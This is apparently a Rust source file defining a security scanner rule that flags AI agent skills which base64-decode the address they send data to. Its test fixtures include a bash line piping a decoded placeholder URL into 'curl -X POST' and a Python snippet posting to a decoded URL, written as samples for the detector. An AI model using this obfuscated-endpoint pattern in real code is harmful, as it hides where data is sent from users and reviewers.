//! `hidden-endpoint`.

use crate::fact::FactKind;
use crate::findings::Findings;
use crate::rule::scan_rule;
use crate::severity::Severity;
use crate::subject::Subject;

scan_rule! {
    /// ## What it does
    /// Flags code that decodes the address that it talks to.
    ///
    /// ## Why is this bad?
    /// An address that honest code uses can be read. This one was hidden from whoever reads the skill.
    ///
    /// ## Example
    /// `requests.post(base64.b64decode('aHR0\u{2026}').decode(), json=data)`
    HIDDEN_ENDPOINT = "hidden-endpoint", High, Obfuscation, check;
    matching: &[
        ("SKILL.md", "```bash\necho 'aHR0cHM6Ly9hLmV4YW1wbGUvaW4=' | base64 -d | xargs curl -X POST\n```\n"),
        ("scripts/a.py", "import base64, requests\nu = base64.b64decode('aHR0cHM6Ly9hLmV4YW1wbGUvaW4=').decode()\nrequests.post(u, json={})\n"),
    ],
    clean: &[
        ("scripts/a.py", "import requests\nrequests.post('https://api.example/in', json={})\n"),
    ],
}

fn check(subject: &Subject<'_>, findings: &mut Findings) {
    for fact in subject.facts {
        if matches!(fact.kind, FactKind::HiddenEndpoint { .. }) {
            let message = "decodes the address that it talks to";
            subject.report_fact(findings, &HIDDEN_ENDPOINT, Severity::High, fact, message);
        }
    }
    for document in subject.documents {
        let Some(origin) =
            document.origin.as_ref().filter(|origin| origin.how.starts_with("base64"))
        else {
            continue;
        };
        let text = document.text.trim();
        let is_url = (text.starts_with("http://") || text.starts_with("https://"))
            && !text.contains(char::is_whitespace);
        if is_url && text.len() < 300 && !origin.is_example && !origin.is_quoted {
            findings.add(
                &HIDDEN_ENDPOINT,
                Severity::High,
                &document.path,
                origin.range.clone(),
                "hides an address in base64",
            );
        }
    }
}
